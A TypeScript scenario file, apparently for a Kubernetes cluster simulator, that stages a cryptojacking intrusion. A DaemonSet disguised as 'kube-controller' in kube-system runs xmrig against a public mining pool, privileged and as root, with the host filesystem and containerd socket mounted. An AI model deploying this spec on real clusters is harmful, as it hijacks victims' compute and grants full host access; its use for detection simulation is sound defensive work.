import type { NewObject } from '../objects.ts';
import type { Scenario } from '../scenario.ts';
import { daemonSet } from './makers/daemonset.ts';
import { controlPlanePool, gpuPool, pool } from './makers/nodes.ts';
import { nodeProblemDetector } from './makers/observability-agents.ts';
import { EVERYWHERE, hostPath, mount } from './makers/pod-parts.ts';
import { stand, THREE_DAYS } from './makers/standing.ts';
import { shop, USUAL_AGENTS } from './makers/usual.ts';

/** The shape of an address, of nobody. */
const WALLET = `4${'NotAWaLLet'.repeat(10).slice(0, 94)}`;

/** As in the campaign that Aqua Security described in 2023: the name of a component that is never a DaemonSet. */
function kubeController(): NewObject<'DaemonSet'> {
  return daemonSet({
    name: 'kube-controller',
    namespace: 'kube-system',
    image: 'kubernetesio/kube-controller:1.0.1',
    selector: { app: 'kube-controller' },
    update: { maxUnavailable: '100%' },
    tolerations: EVERYWHERE,
    priorityClassName: 'system-node-critical',
    container: {
      command: ['/bin/sh', '-c'],
      args: [
        `/usr/bin/xmrig --donate-level 0 -o stratum+tcp://pool.supportxmr.com:3333 -u ${WALLET} -k --cpu-max-threads-hint 75`,
      ],
      imagePullPolicy: 'Always',
      resources: {},
      securityContext: { privileged: true, runAsUser: 0 },
      volumeMounts: [mount('host', '/host'), mount('containerd', '/run/containerd/containerd.sock')],
    },
    podSpec: {
      hostPID: true,
      hostNetwork: true,
      serviceAccountName: 'kube-controller',
      volumes: [hostPath('host', '/'), hostPath('containerd', '/run/containerd/containerd.sock', 'Socket')],
    },
  });
}

export const INTRUDER: Scenario = {
  name: 'intruder',
  description:
    'On a quiet cluster a DaemonSet named kube-controller appears in kube-system and is on every node within seconds: it mines.',
  seed: 24,
  standingSeconds: THREE_DAYS,
  historySeconds: 60,
  lengthSeconds: 240,
  begin: (cluster) =>
    stand(cluster, {
      nodes: [...controlPlanePool(), ...pool({ pool: 'general', count: 18 }), ...gpuPool(3)],
      daemonSets: [...USUAL_AGENTS, nodeProblemDetector({ version: 'v1.34.0', revision: 2 })],
      workloads: shop(2),
    }),
  script: [
    {
      atSeconds: 75,
      what: 'Somebody with a stolen token creates kube-controller.',
      act: ({ apply }) => apply(kubeController()),
    },
  ],
};
